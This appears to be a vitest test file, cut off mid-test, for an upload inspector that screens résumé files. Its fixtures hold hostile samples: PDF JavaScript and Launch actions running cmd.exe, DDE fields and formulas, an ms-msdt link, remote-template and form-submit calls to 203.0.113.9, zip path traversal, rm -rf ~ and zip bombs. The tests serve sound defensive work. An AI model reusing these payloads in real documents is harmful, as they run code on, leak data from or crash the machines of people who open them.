import { randomBytes } from "node:crypto";
import { createInflateRaw } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  buildZip,
  compoundFile,
  concat,
  contentTypesXml,
  deflatedZeros,
  deflatedZerosWithinRatio,
  docxEntries,
  elfExecutable,
  heicPhoto,
  jpegPhoto,
  minimalPdf,
  pdfOfSize,
  pdfWith,
  pngPhoto,
  relationshipsXml,
  windowsExecutable,
  withEntries,
  wordDocumentXml,
  xlsxEntries,
  type ZipFixtureEntry,
} from "./document-fixtures.ts";
import { DOCUMENT_REFUSALS, MAX_DOCUMENT_BYTES } from "./document-verdict.ts";
import { inspectDocument } from "./inspect-document.ts";

const DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const text = (value: string) => new TextEncoder().encode(value);
const inspect = (bytes: Uint8Array, fileName = "upload.pdf") => inspectDocument({ bytes, fileName });
const refused = (reason: string) => ({ ok: false, reason });

describe("inspectDocument: PDF", () => {
  it("accepts a minimal valid PDF", async () => {
    const pdf = minimalPdf();
    expect(await inspect(pdf, "rirekisho.pdf")).toEqual({
      ok: true,
      kind: "pdf",
      mediaType: "application/pdf",
      extension: "pdf",
      size: pdf.length,
      bytes: pdf,
    });
  });

  it("accepts a PDF whatever it is called, and reports its real extension", async () => {
    const pdf = minimalPdf();
    expect(await inspect(pdf, "resume.docx")).toMatchObject({ ok: true, kind: "pdf", extension: "pdf" });
  });

  it("accepts a PDF of exactly the size limit", async () => {
    const pdf = pdfOfSize(MAX_DOCUMENT_BYTES);
    expect(pdf.length).toBe(MAX_DOCUMENT_BYTES);
    expect(await inspect(pdf)).toMatchObject({ ok: true, kind: "pdf", size: MAX_DOCUMENT_BYTES });
  });

  it("refuses text that only mentions %PDF- somewhere inside", async () => {
    const fake = text("My résumé, see attached %PDF-1.7 file.\n%%EOF\n");
    expect(await inspect(fake)).toEqual(refused("unsupported-type"));
  });

  it("refuses a PDF whose header is not at the very start", async () => {
    expect(await inspect(concat([text(" "), minimalPdf()]))).toEqual(refused("unsupported-type"));
  });

  it("refuses a truncated PDF with no end-of-file marker", async () => {
    const pdf = minimalPdf();
    expect(await inspect(pdf.subarray(0, pdf.length - 10))).toEqual(refused("corrupt-pdf"));
  });

  it("refuses a PDF with more than 1 KiB appended after its end-of-file marker", async () => {
    expect(await inspect(concat([minimalPdf(), new Uint8Array(2048).fill(0x41)]))).toEqual(refused("corrupt-pdf"));
  });

  it("refuses a header with no version", async () => {
    expect(await inspect(text("%PDF-\n%%EOF\n"))).toEqual(refused("corrupt-pdf"));
  });
});

describe("inspectDocument: PDF active content", () => {
  const javaScript = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

  it("refuses JavaScript run on opening, on a page's additional actions, or from the names tree", async () => {
    expect(await inspect(pdfWith({ catalog: `/OpenAction ${javaScript}` }))).toEqual(refused("pdf-active-content"));
    expect(await inspect(pdfWith({ page: `/AA << /O ${javaScript} >>` }))).toEqual(refused("pdf-active-content"));
    expect(await inspect(pdfWith({ catalog: "/Names << /JavaScript 4 0 R >>", objects: [`<< /Names [(a) ${javaScript}] >>`] }))).toEqual(
      refused("pdf-active-content"),
    );
  });

  it("refuses launching programs and sending or importing form data", async () => {
    for (const action of [
      "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
      "<< /S /SubmitForm /F << /FS /URL /F (https://203.0.113.9/) >> >>",
      "<< /S /ImportData /F (data.fdf) >>",
    ]) {
      expect(await inspect(pdfWith({ catalog: `/OpenAction ${action}` })), action).toEqual(refused("pdf-active-content"));
    }
  });

  it("refuses embedded files and rich media", async () => {
    const attached = pdfWith({
      catalog: "/Names << /EmbeddedFiles << /Names [(cv.exe) 4 0 R] >> >>",
      objects: ["<< /Type /Filespec /F (cv.exe) /EF << /F 5 0 R >> >>"],
    });
    expect(await inspect(attached)).toEqual(refused("pdf-embedded-file"));
    expect(await inspect(pdfWith({ page: "/Annots [4 0 R]", objects: ["<< /Type /Annot /Subtype /RichMedia >>"] }))).toEqual(refused("pdf-embedded-file"));
  });

  it("reads names written with #xx escapes as the reader does", async () => {
    expect(await inspect(pdfWith({ catalog: "/OpenAction << /S /J#61vaScript /#4A#53 (x) >>" }))).toEqual(refused("pdf-active-content"));
    expect(await inspect(pdfWith({ catalog: "/OpenAction << /S /L#61unch /F (x) >>" }))).toEqual(refused("pdf-active-content"));
  });

  it("finds JavaScript packed into a compressed object stream, with or without its /Type", async () => {
    const packed = { objects: ["<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"] };
    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed }))).toEqual(refused("pdf-active-content"));
    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed: { ...packed, dictionary: "" } }))).toEqual(refused("pdf-active-content"));
    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed: { ...packed, encoding: "none" } }))).toEqual(refused("pdf-active-content"));
    const escaped = { objects: ["<< /S /J#61vaScript /JS (x) >>"] };
    expect(await inspect(pdfWith({ catalog: "/OpenAction 5 0 R", packed: escaped }))).toEqual(refused("pdf-active-content"));
  });

  it("refuses an object stream it cannot read rather than waving it through", async () => {
    const packed = { objects: ["<< /S /JavaScript /JS (x) >>"] };
    expect(await inspect(pdfWith({ packed: { ...packed, encoding: "ascii-hex" } }))).toEqual(refused("pdf-too-complex"));
    expect(await inspect(pdfWith({ packed: { ...packed, encoding: "predictor" } }))).toEqual(refused("pdf-too-complex"));
    const broken = Buffer.from(pdfWith({ packed }));
    const data = broken.indexOf("stream\n") + 7;
    broken.fill(0x41, data, data + 8);
    expect(await inspect(broken)).toEqual(refused("pdf-too-complex"));
  });

  it("refuses an object stream inflating past 32 MiB", async () => {
    const filler = `<< /Filler (${"x".repeat(1024 * 1024)}) >>`;
    const packed = { objects: Array.from({ length: 33 }, () => filler) };
    expect(await inspect(pdfWith({ packed }))).toEqual(refused("pdf-too-complex"));
  });

  it("finds an object hidden between a stream keyword and endstream", async () => {
    const hidden = pdfWith({ objects: ["<< /Length 999999 >>\nstream\n5 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\nendstream"] });
    expect(await inspect(hidden)).toEqual(refused("pdf-active-content"));
  });

  it("keeps everyday PDFs: opening at a page, web links, links to other PDFs, packed objects, pictures whose bytes spell /JS", async () => {
    const picture = Buffer.concat([Buffer.of(0xff, 0xd8, 0xff, 0xe0), Buffer.from(" /JS /JavaScript (", "latin1"), Buffer.alloc(64, 7), Buffer.of(0xff, 0xd9)]);
    const image = Buffer.concat([
      Buffer.from(
        `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /Filter /DCTDecode /Length ${picture.length} >>\nstream\n`,
        "latin1",
      ),
      picture,
      Buffer.from("\nendstream", "latin1"),
    ]).toString("latin1");
    const pdf = pdfWith({
      catalog: "/OpenAction [3 0 R /Fit] /Outlines 6 0 R",
      page: "/Annots [4 0 R 5 0 R] /Resources << /XObject << /Im1 7 0 R >> >>",
      objects: [
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://portfolio.example/) >> /AP << /N 7 0 R >> >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (portfolio.pdf) /D [0 /Fit] >> >>",
        "<< /Type /Outlines /First 8 0 R /Count 1 >>",
        image,
      ],
      packed: { objects: ["<< /Title (職務経歴) /Parent 6 0 R >>", "<< /Producer (Example Writer) >>"] },
    });
    expect(await inspect(pdf)).toMatchObject({ ok: true, kind: "pdf" });
  });
});

describe("inspectDocument: photos of a paper résumé", () => {
  it.each([
    ["JPEG", jpegPhoto, "jpeg", "image/jpeg"],
    ["PNG", pngPhoto, "png", "image/png"],
    ["HEIC", heicPhoto, "heic", "image/heic"],
  ] as const)("accepts a %s photo by its content, whatever its name, and hands back a copy without its metadata", async (_, photo, kind, mediaType) => {
    const upload = photo();
    const verdict = await inspect(upload, "rirekisho.pdf");
    expect(verdict).toMatchObject({ ok: true, kind, mediaType, extension: kind });
    if (!verdict.ok) return;
    expect(verdict.size).toBe(verdict.bytes.length);
    expect(Buffer.from(verdict.bytes).includes("GPSLatitude")).toBe(false);
    expect(Buffer.from(upload).includes("GPSLatitude")).toBe(true);
  });

  it("refuses a damaged photo, and one with more pixels than any camera takes", async () => {
    const jpeg = jpegPhoto();
    expect(await inspect(jpeg.subarray(0, 60), "photo.jpg")).toEqual(refused("corrupt-image"));
    expect(await inspect(pngPhoto({ width: 100_000, height: 100_000 }), "photo.png")).toEqual(refused("image-too-large"));
  });

  it("refuses an ISO media file that is not a HEIC still image", async () => {
    expect(await inspect(heicPhoto({ brands: ["avif", "\0\0\0\0", "mif1", "avif"] }), "photo.heic")).toEqual(refused("unsupported-type"));
  });
});

describe("inspectDocument: size", () => {
  it("refuses an empty file", async () => {
    expect(await inspect(new Uint8Array(0))).toEqual(refused("empty"));
  });

  it("refuses 11 MB before looking at the content", async () => {
    const bytes = new Uint8Array(11 * 1024 * 1024);
    bytes.set(minimalPdf());
    expect(await inspect(bytes)).toEqual(refused("too-large"));
  });

  it("refuses one byte over the limit", async () => {
    expect(await inspect(pdfOfSize(MAX_DOCUMENT_BYTES + 1))).toEqual(refused("too-large"));
  });
});

describe("inspectDocument: HTML and executables renamed .pdf", () => {
  it.each([
    ["a document", "<!DOCTYPE html>\n<html><body>履歴書</body></html>"],
    ["lower-case, after a BOM and blank lines", "\uFEFF\n\n  <!doctype html><html lang=ja>"],
    ["a bare script", "<script>alert(1)</script>"],
    ["an html element", '<html lang="ja"><p>x</p></html>'],
    ["a comment first", "<!-- saved from url --> <html>"],
  ])("refuses HTML: %s", async (_, html) => {
    expect(await inspect(text(html))).toEqual(refused("html"));
  });

  it("does not call arbitrary angle-bracket text HTML", async () => {
    expect(await inspect(text("<abc>not a tag we sniff</abc>"))).toEqual(refused("unsupported-type"));
  });

  it("refuses an ELF executable", async () => {
    expect(await inspect(elfExecutable(), "resume.pdf")).toEqual(refused("executable"));
  });

  it("refuses a Windows MZ/PE executable", async () => {
    expect(await inspect(windowsExecutable(), "resume.pdf")).toEqual(refused("executable"));
  });

  it("refuses a Mach-O executable", async () => {
    expect(await inspect(Uint8Array.of(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1), "resume.pdf")).toEqual(refused("executable"));
  });

  it("refuses a shebang script", async () => {
    expect(await inspect(text("#!/bin/sh\nrm -rf ~\n"), "resume.pdf")).toEqual(refused("executable"));
  });

  it("refuses a Java archive even though it is a ZIP", async () => {
    const jar = buildZip([
      { name: "META-INF/MANIFEST.MF", content: "Manifest-Version: 1.0\nMain-Class: Evil\n" },
      { name: "Evil.class", content: Uint8Array.of(0xca, 0xfe, 0xba, 0xbe) },
    ]);
    expect(await inspect(jar, "resume.docx")).toEqual(refused("executable"));
  });
});

describe("inspectDocument: OLE compound files", () => {
  it("refuses a password-protected DOCX/XLSX as encrypted", async () => {
    const encrypted = compoundFile(["EncryptionInfo", "EncryptedPackage"]);
    expect(await inspect(encrypted, "resume.docx")).toEqual(refused("encrypted"));
  });

  it("refuses a Word 97-2003 .doc", async () => {
    expect(await inspect(compoundFile(["WordDocument", "1Table"]), "resume.doc")).toEqual(refused("legacy-office"));
  });

  it("refuses an Excel 97-2003 .xls", async () => {
    expect(await inspect(compoundFile(["Workbook"]), "resume.xls")).toEqual(refused("legacy-office"));
  });

  it("refuses any other compound file (an installer, a mail) as unsupported", async () => {
    expect(await inspect(compoundFile([]), "resume.docx")).toEqual(refused("unsupported-type"));
  });
});

describe("inspectDocument: DOCX and XLSX", () => {
  it("accepts a minimal DOCX", async () => {
    const docx = buildZip(docxEntries());
    expect(await inspect(docx, "shokumu.docx")).toEqual({
      ok: true,
      kind: "docx",
      mediaType: DOCX_TYPE,
      extension: "docx",
      size: docx.length,
      bytes: docx,
    });
  });

  it("accepts a minimal XLSX", async () => {
    const xlsx = buildZip(xlsxEntries());
    expect(await inspect(xlsx, "shokumu.xlsx")).toEqual({
      ok: true,
      kind: "xlsx",
      mediaType: XLSX_TYPE,
      extension: "xlsx",
      size: xlsx.length,
      bytes: xlsx,
    });
  });

  it("judges by content: a DOCX named .pdf is a DOCX, a DOCX named .docm is still a DOCX", async () => {
    const docx = buildZip(docxEntries());
    expect(await inspect(docx, "resume.pdf")).toMatchObject({ ok: true, kind: "docx", extension: "docx" });
    expect(await inspect(docx, "resume.docm")).toMatchObject({ ok: true, kind: "docx" });
  });

  it("accepts a DOCX handed over as a view into a larger buffer", async () => {
    const docx = buildZip(docxEntries());
    const larger = new Uint8Array(docx.length + 64);
    larger.set(docx, 32);
    expect(await inspect(larger.subarray(32, 32 + docx.length))).toMatchObject({ ok: true, kind: "docx" });
  });

  it("ignores entry names that climb out of the archive, and never writes them anywhere", async () => {
    const archive = buildZip([
      ...docxEntries(),
      { name: "../../../../etc/cron.d/evil", content: "* * * * * root sh" },
      { name: "/etc/passwd", content: "root:x:0:0" },
      { name: "..\\..\\Windows\\System32\\evil.dll", content: "MZ" },
      { name: "C:/Users/Public/evil.exe", content: "MZ" },
      { name: "word/../../x\u0000.xml", content: "<x/>" },
    ]);
    expect(await inspect(archive, "../../resume.docx")).toMatchObject({ ok: true, kind: "docx" });
  });

  it("does not take a content-types part from a traversal path as the real one", async () => {
    const entries = docxEntries();
    const renamed = entries.map((entry) => (entry.name === "[Content_Types].xml" ? { ...entry, name: "../[Content_Types].xml" } : entry));
    expect(await inspect(buildZip(renamed), "resume.docx")).toEqual(refused("unsupported-type"));
  });

  it("refuses a PowerPoint file, an OpenDocument text and a plain ZIP", async () => {
    const pptx = buildZip([
      {
        name: "[Content_Types].xml",
        content: contentTypesXml({
          "/ppt/presentation.xml": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        }),
      },
      { name: "ppt/presentation.xml", content: "<p:presentation/>" },
    ]);
    const odt = buildZip([
      { name: "mimetype", content: "application/vnd.oasis.opendocument.text" },
      { name: "content.xml", content: "<office:document-content/>" },
    ]);
    const plain = buildZip([{ name: "resume.txt", content: "hello" }]);
    expect(await inspect(pptx, "resume.docx")).toEqual(refused("unsupported-type"));
    expect(await inspect(odt, "resume.docx")).toEqual(refused("unsupported-type"));
    expect(await inspect(plain, "resume.docx")).toEqual(refused("unsupported-type"));
  });
});

describe("inspectDocument: links out of a DOCX or XLSX", () => {
  const docxWith = (...extra: ZipFixtureEntry[]) => buildZip(withEntries(docxEntries(), extra));
  const settingsRels = (target: string) => ({
    name: "word/_rels/settings.xml.rels",
    content: relationshipsXml([{ type: "attachedTemplate", target, external: true }]),
    method: "deflate" as const,
  });

  it("refuses a DOCX that fetches its template from a web server or a share when opened", async () => {
    expect(await inspect(docxWith(settingsRels("https://203.0.113.9/normal.dotm")), "resume.docx")).toEqual(refused("office-external-link"));
    expect(await inspect(docxWith(settingsRels("\\\\203.0.113.9\\t\\normal.dotm")), "resume.docx")).toEqual(refused("office-external-link"));
  });

  it("keeps a DOCX made from a template on the author's own drive", async () => {
    expect(await inspect(docxWith(settingsRels("file:///C:\\Users\\hanako\\Downloads\\rirekisho.dotx")), "resume.docx")).toMatchObject({ ok: true });
  });

  it("keeps a résumé with web and mail hyperlinks", async () => {
    const rels = relationshipsXml([
      { type: "hyperlink", target: "https://portfolio.example/hanako", external: true },
      { type: "hyperlink", target: "mailto:hanako@example.jp", external: true },
    ]);
    expect(await inspect(docxWith({ name: "word/_rels/document.xml.rels", content: rels }), "resume.docx")).toMatchObject({ ok: true, kind: "docx" });
  });

  it("refuses a hyperlink that starts a program", async () => {
    const rels = relationshipsXml([{ type: "hyperlink", target: "ms-msdt:/id PCWDiagnostic", external: true }]);
    expect(await inspect(docxWith({ name: "word/_rels/document.xml.rels", content: rels }), "resume.docx")).toEqual(refused("office-external-link"));
  });

  it("refuses a linked OLE object, a frame and a linked picture", async () => {
    for (const [name, type, reason] of [
      ["word/_rels/document.xml.rels", "oleObject", "office-embedded-object"],
      ["word/_rels/webSettings.xml.rels", "frame", "office-external-link"],
      ["word/_rels/document.xml.rels", "image", "office-external-link"],
    ] as const) {
      const rels = relationshipsXml([{ type, target: "https://203.0.113.9/x", external: true }]);
      expect(await inspect(docxWith({ name, content: rels }), "resume.docx"), type).toEqual(refused(reason));
    }
  });

  it("refuses an XLSX linking to another workbook or a data source", async () => {
    const rels = relationshipsXml([{ type: "externalLinkPath", target: "file://203.0.113.9/share/salaries.xlsx", external: true }]);
    const xlsx = buildZip(withEntries(xlsxEntries(), [{ name: "xl/externalLinks/_rels/externalLink1.xml.rels", content: rels }]));
    expect(await inspect(xlsx, "resume.xlsx")).toEqual(refused("office-external-link"));
  });

  it("refuses an embedded OLE object or ActiveX control", async () => {
    const ole = docxWith(
      { name: "word/_rels/document.xml.rels", content: relationshipsXml([{ type: "oleObject", target: "embeddings/oleObject1.bin" }]) },
      { name: "word/embeddings/oleObject1.bin", content: compoundFile(["\u0001Ole10Native"]) },
    );
    const activeX = docxWith({ name: "word/activeX/activeX1.xml", content: "<ax:ocx/>" });
    expect(await inspect(ole, "resume.docx")).toEqual(refused("office-embedded-object"));
    expect(await inspect(activeX, "resume.docx")).toEqual(refused("office-embedded-object"));
  });

  it("finds the relationship whatever the part is called and however the markup is spelled", async () => {
    const spelled = relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm" }]).replace(
      "<Relationship ",
      '<Relationship TargetMode="Ext&#101;rnal" ',
    );
    const utf16 = Buffer.concat([
      Buffer.of(0xff, 0xfe),
      Buffer.from(relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm", external: true }]), "utf16le"),
    ]);
    for (const [name, content] of [
      ["word/_rels/settings.xml.rels", spelled],
      ["WORD/_RELS/SETTINGS.XML.RELS", relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm", external: true }])],
      ["word/_rels/settings.xml%2Erels", relationshipsXml([{ type: "attachedTemplate", target: "https://203.0.113.9/t.dotm", external: true }])],
      ["word/_rels/settings.xml.rels", utf16],
    ] as const) {
      expect(await inspect(docxWith({ name, content, method: "deflate" }), "resume.docx"), name).toEqual(refused("office-external-link"));
    }
  });

  it("refuses a part that declares a DTD, which a package may not carry", async () => {
    const withDtd = `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY t "DDEAUTO">]><w:document xmlns:w="x"/>`;
    expect(await inspect(docxWith({ name: "word/document.xml", content: withDtd }), "resume.docx")).toEqual(refused("corrupt-office"));
  });
});

describe("inspectDocument: DDE and other program links", () => {
  const docxWithBody = (body: string, part = "word/document.xml") =>
    buildZip(withEntries(docxEntries(), [{ name: part, content: wordDocumentXml(body), method: "deflate" }]));
  const run = (inner: string) => `<w:r>${inner}</w:r>`;
  const fieldChar = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
  const instr = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
  const paragraph = (...runs: string[]) => `<w:p>${runs.join("")}</w:p>`;

  it("refuses a DDEAUTO field split across runs and spelled in mixed case", async () => {
    const body = paragraph(
      fieldChar("begin"),
      instr(" dd"),
      instr("EaUTo c:\\Windows\\System32\\cmd.exe "),
      instr('"/k calc"'),
      fieldChar("separate"),
      run("<w:t>x</w:t>"),
      fieldChar("end"),
    );
    expect(await inspect(docxWithBody(body), "resume.docx")).toEqual(refused("office-dde"));
  });

  it("refuses a DDE field in a simple field, a header, or written with references and CDATA", async () => {
    expect(await inspect(docxWithBody(paragraph('<w:fldSimple w:instr="DDE cmd /c calc"/>')), "resume.docx")).toEqual(refused("office-dde"));
    const header = docxWithBody(paragraph(fieldChar("begin"), instr("DDEAUTO cmd"), fieldChar("end")), "word/header1.xml");
    expect(await inspect(header, "resume.docx")).toEqual(refused("office-dde"));
    const spelled = paragraph(fieldChar("begin"), instr("&#68;<![CDATA[DE]]>AUTO cmd"), fieldChar("end"));
    expect(await inspect(docxWithBody(spelled), "resume.docx")).toEqual(refused("office-dde"));
  });

  it("keeps everyday fields: page numbers, dates and hyperlinks", async () => {
    const body = paragraph(
      fieldChar("begin"),
      instr(" PAGE "),
      fieldChar("end"),
      '<w:fldSimple w:instr=" DATE \\@ &quot;yyyy年M月d日&quot; "><w:r><w:t>2024年4月1日</w:t></w:r></w:fldSimple>',
      fieldChar("begin"),
      instr(' HYPERLINK "https://portfolio.example/" '),
      fieldChar("separate"),
      run("<w:t>portfolio</w:t>"),
      fieldChar("end"),
    );
    expect(await inspect(docxWithBody(body), "resume.docx")).toMatchObject({ ok: true, kind: "docx" });
  });

  it("refuses a picture field that fetches from a web server when the file opens", async () => {
    const body = paragraph(fieldChar("begin"), instr('INCLUDEPICTURE "https://203.0.113.9/pixel.png" \\d'), fieldChar("end"));
    expect(await inspect(docxWithBody(body), "resume.docx")).toEqual(refused("office-external-link"));
  });

  const xlsxWith = (...extra: ZipFixtureEntry[]) => buildZip(withEntries(xlsxEntries(), extra));
  const sheet = (cells: string) => ({
    name: "xl/worksheets/sheet1.xml",
    content: `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
    method: "deflate" as const,
  });

  it("refuses an XLSX holding a DDE link", async () => {
    const link = {
      name: "xl/externalLinks/externalLink1.xml",
      content: `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/></ddeItems></ddeLink></externalLink>`,
    };
    expect(await inspect(xlsxWith(link), "resume.xlsx")).toEqual(refused("office-dde"));
  });

  it("refuses a DDE formula, also written with a character reference for the |", async () => {
    expect(await inspect(xlsxWith(sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f><v>0</v></c>`)), "resume.xlsx")).toEqual(refused("office-dde"));
    expect(await inspect(xlsxWith(sheet(`<c r="A1"><x:f xmlns:x="s">cmd&#124;' /C calc'!A0</x:f></c>`)), "resume.xlsx")).toEqual(refused("office-dde"));
  });

  it("refuses a defined name that is a DDE reference, and an external data connection", async () => {
    const workbook = {
      name: "xl/workbook.xml",
      content: `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="r"><sheets><sheet name="職歴" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="x">cmd|'/c calc'!A0</definedName></definedNames></workbook>`,
    };
    const connections = {
      name: "xl/connections.xml",
      content: `<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4"><webPr url="https://203.0.113.9/q"/></connection></connections>`,
    };
    expect(await inspect(xlsxWith(workbook), "resume.xlsx")).toEqual(refused("office-dde"));
    expect(await inspect(xlsxWith(connections), "resume.xlsx")).toEqual(refused("office-external-link"));
  });

  it("keeps ordinary formulas, and a | in a string", async () => {
    const cells = `<c r="A1"><f>SUM(B1:B9)</f><v>3</v></c><c r="A2" t="str"><f>CONCAT("2020|",B2)</f><v>2020|x</v></c>`;
    expect(await inspect(xlsxWith(sheet(cells)), "resume.xlsx")).toMatchObject({ ok: true, kind: "xlsx" });
  });
});

describe("inspectDocument: macros", () => {
  const docm = () =>
    buildZip([
      ...docxEntries("application/vnd.ms-word.document.macroEnabled.main+xml").map((entry) =>
        entry.name === "[Content_Types].xml"
          ? {
              ...entry,
              content: contentTypesXml(
                { "/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml" },
                { bin: "application/vnd.ms-office.vbaProject" },
              ),
            }
          : entry,
      ),
      { name: "word/vbaProject.bin", content: compoundFile(["VBA"]) },
    ]);

  it("refuses a .docm (macro content type and vbaProject.bin)", async () => {
    expect(await inspect(docm(), "resume.docx")).toEqual(refused("macro-enabled"));
  });

  it("refuses an .xlsm", async () => {
    const xlsm = buildZip([
      ...xlsxEntries("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
      { name: "xl/vbaProject.bin", content: compoundFile(["VBA"]) },
    ]);
    expect(await inspect(xlsm, "resume.xlsx")).toEqual(refused("macro-enabled"));
  });

  it("refuses a DOCX that carries a vbaProject.bin under an innocent content type", async () => {
    const archive = buildZip([...docxEntries(), { name: "word/vbaProject.bin", content: compoundFile(["VBA"]) }]);
    expect(await inspect(archive, "resume.docx")).toEqual(refused("macro-enabled"));
  });

  it("refuses a macro content type spelled with a character reference", async () => {
    const archive = buildZip(docxEntries("application/vnd.ms-word.document.macro&#69;nabled.main+xml"));
    expect(await inspect(archive, "resume.docx")).toEqual(refused("macro-enabled"));
  });
});

describe("inspectDocument: Apple iWork", () => {
  const pagesEntries: ZipFixtureEntry[] = [
    { name: "Index/Document.iwa", content: new Uint8Array([0, 1, 2, 3]) },
    { name: "Index/Metadata.iwa", content: new Uint8Array([4, 5]) },
    { name: "Metadata/Properties.plist", content: "bplist00" },
    { name: "preview.jpg", content: Uint8Array.of(0xff, 0xd8, 0xff, 0xe0) },
  ];

  it("refuses a Pages document with its own reason, whatever its name", async () => {
    expect(await inspect(buildZip(pagesEntries), "resume.docx")).toEqual(refused("pages-file"));
  });

  it("recognises a Pages package zipped as a folder, and the older index.xml format", async () => {
    const zippedFolder = buildZip(pagesEntries.map((entry) => ({ ...entry, name: `履歴書.pages/${entry.name}` })));
    const older = buildZip([{ name: "index.xml", content: "<sl:document/>" }]);
    expect(await inspect(zippedFolder, "resume.zip")).toEqual(refused("pages-file"));
    expect(await inspect(older, "resume")).toEqual(refused("pages-file"));
  });

  it("uses a .pages name only to explain a refusal of unrecognised content", async () => {
    expect(await inspect(text("not a zip at all"), "履歴書.pages")).toEqual(refused("pages-file"));
    expect(await inspect(text("not a zip at all"), "履歴書.pdf")).toEqual(refused("unsupported-type"));
    expect(await inspect(buildZip(docxEntries()), "履歴書.pages")).toMatchObject({ ok: true, kind: "docx" });
  });
});

describe("inspectDocument: zip bombs and archive limits", () => {
  it("refuses a DOCX hiding a 200 MiB entry that packs to about 200 KiB", async () => {
    const zeros = deflatedZeros(200 * 1024 * 1024);
    const archive = buildZip([...docxEntries(), { name: "word/media/image1.png", ...zeros }]);
    expect(archive.length).toBeLessThan(MAX_DOCUMENT_BYTES);
    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("the 200 MiB fixture really inflates to 200 MiB (streamed, so the check itself stays small)", async () => {
    const { deflated, uncompressedSize } = deflatedZeros(200 * 1024 * 1024);
    let total = 0;
    await new Promise<void>((resolve, reject) => {
      const inflate = createInflateRaw();
      inflate.on("data", (chunk: Buffer) => {
        total += chunk.length;
      });
      inflate.on("end", resolve);
      inflate.on("error", reject);
      inflate.end(deflated);
    });
    expect(total).toBe(uncompressedSize);
  });

  it("refuses an entry within the total limit whose ratio is far beyond any real document (50 MiB of zeros)", async () => {
    const zeros = deflatedZeros(50 * 1024 * 1024);
    const archive = buildZip([...docxEntries(), { name: "word/media/image1.png", ...zeros }]);
    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses declared sizes that add up past 100 MiB even when each one looks modest", async () => {
    // Incompressible content keeps each declared ratio under the per-entry bound, so only the total can refuse it.
    const lying = Array.from({ length: 3 }, (_, index) => ({
      name: `word/media/image${index}.png`,
      content: randomBytes(450 * 1024),
      method: "deflate" as const,
      uncompressedSize: 40 * 1024 * 1024,
    }));
    expect(await inspect(buildZip([...docxEntries(), ...lying]), "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses a ZIP64 entry declaring 5 GiB", async () => {
    const archive = buildZip([
      ...docxEntries(),
      { name: "word/media/huge.bin", content: new Uint8Array(16), method: "deflate", uncompressedSize: 5 * 1024 ** 3 },
    ]);
    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses a content-types part that inflates past its cap while declaring a small size", async () => {
    const zeros = deflatedZeros(2 * 1024 * 1024);
    const entries = docxEntries().map((entry) =>
      entry.name === "[Content_Types].xml" ? { ...entry, content: undefined, ...zeros, uncompressedSize: 1000 } : entry,
    );
    expect(await inspect(buildZip(entries), "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses an entry whose headers claim 1 000 bytes but which inflates to 200 MiB", async () => {
    const zeros = deflatedZeros(200 * 1024 * 1024);
    const lying = { name: "word/media/image1.png", deflated: zeros.deflated, crc32: 0x1234_5678, uncompressedSize: 1000 };
    const archive = buildZip([...docxEntries(), lying]);
    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses an entry that really inflates past 50 MiB at an ordinary ratio, whatever its headers claim", async () => {
    const big = deflatedZerosWithinRatio(60 * 1024 * 1024);
    const archive = buildZip([...docxEntries(), { name: "word/media/image1.png", deflated: big.deflated, crc32: big.crc32, uncompressedSize: 1000 }]);
    expect(await inspect(archive, "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses entries that each stay within bounds but really inflate past 100 MiB together", async () => {
    const part = deflatedZerosWithinRatio(40 * 1024 * 1024);
    const lying = [1, 2, 3].map((index) => ({ name: `word/media/image${index}.png`, deflated: part.deflated, crc32: part.crc32, uncompressedSize: 1000 }));
    expect(await inspect(buildZip([...docxEntries(), ...lying]), "resume.docx")).toEqual(refused("archive-too-large"));
  });

  it("refuses an entry whose true size or CRC differs from its headers", async () => {
    const docx = docxEntries();
    const document = docx.find((entry) => entry.name === "word/document.xml") as ZipFixtureEntry;
    const wrongSize = docx.map((entry) => (entry === document ? { ...entry, uncompressedSize: 12 } : entry));
